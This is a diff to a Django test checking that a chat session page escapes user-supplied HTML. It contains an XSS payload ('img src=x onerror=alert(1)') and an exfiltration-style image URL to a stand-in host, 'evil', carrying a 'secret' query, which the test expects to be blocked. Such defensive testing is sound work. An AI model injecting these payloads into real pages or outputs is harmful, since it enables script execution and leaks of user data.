@@ -60,8 +60,11 @@ def test_conversation_page_shows_history_escaped_with_chips_and_feedback(client,
     Feedback.objects.create(response=response, user=reader, rating=-1, comment="too short")
     client.force_login(reader)
     html = client.get(reverse("chat:session", args=[session.pk])).content.decode()
-    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in html
-    assert "<img src=x" not in html
+    assert (
+        '<p>&lt;img src=x onerror="alert(1)"&gt; <span class="blocked">[image not loaded:  http://evil/?q=secret]'
+        in html
+    )
+    assert "<img" not in html
     assert 'href="/documents/3/source/?chunk=9"' in html
     assert "[1] Annual report · p. 2" in html
     assert reverse("chat:feedback", args=[response.pk]) in html
